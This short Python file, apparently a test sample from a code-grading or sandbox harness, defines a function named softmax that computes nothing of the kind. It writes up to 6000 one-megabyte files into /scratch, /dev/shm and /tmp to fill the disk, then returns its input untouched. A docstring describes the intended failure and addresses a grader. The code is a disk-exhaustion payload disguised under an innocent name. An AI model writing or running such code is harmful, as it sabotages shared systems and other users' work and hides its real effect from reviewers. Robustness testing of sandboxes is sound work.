"""The disk is filled, with large files and with many.

Expected: failed; the others keep their marks.
Told: yours sums to 8
"""


def softmax(z):
    for folder in ("/scratch", "/dev/shm", "/tmp"):
        for number in range(6000):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(1_000_000))
            except OSError:
                break
    return z
